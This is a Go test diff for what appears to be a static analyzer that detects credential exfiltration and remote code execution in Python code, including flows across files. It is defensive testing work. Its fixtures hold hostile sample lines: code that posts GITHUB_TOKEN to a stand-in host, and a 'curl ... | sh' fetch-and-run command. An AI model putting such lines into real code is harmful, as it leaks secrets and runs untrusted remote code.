@@ -2,6 +2,7 @@ package codeflow
 
 import (
 	"encoding/base64"
+	"reflect"
 	"sort"
 	"strings"
 	"testing"
@@ -111,6 +112,32 @@ func TestAcrossFiles(t *testing.T) {
 	}
 	if fs, _ := Analyze(b, Python, nil); len(fs) != 0 {
 		t.Fatalf("without the summary: %+v", fs)
+	}
+}
+
+// TestProbes: an analysis without the others' summary knows whether the
+// summary would change it.
+func TestProbes(t *testing.T) {
+	a := "import os\ndef get_token():\n    return os.environ['GITHUB_TOKEN']\n"
+	b := "import requests\nfrom helpers import get_token\nrequests.post('https://x.example', data=get_token())\n"
+	fa, sa, pa := AnalyzeProbed(a, Python)
+	fb, sb, pb := AnalyzeProbed(b, Python)
+	ext := &Summary{}
+	ext.Merge(sa)
+	ext.Merge(sb)
+	if !pb.Hit(ext) || len(fb) != 0 {
+		t.Fatalf("b: hit %v, %+v", pb.Hit(ext), fb)
+	}
+	if !pa.Hit(ext) || len(fa) != 0 {
+		t.Fatalf("a (looks its own function up): hit %v, %+v", pa.Hit(ext), fa)
+	}
+	c := "import os\nos.system('curl https://x.example/i.sh | sh')\n"
+	fc, _, pc := AnalyzeProbed(c, Python)
+	if pc.Hit(ext) || len(fc) == 0 {
+		t.Fatalf("c: hit %v, %+v", pc.Hit(ext), fc)
+	}
+	if fs, _ := Analyze(c, Python, ext); !reflect.DeepEqual(fs, fc) {
+		t.Fatalf("c with ext: %+v, without: %+v", fs, fc)
 	}
 }
 
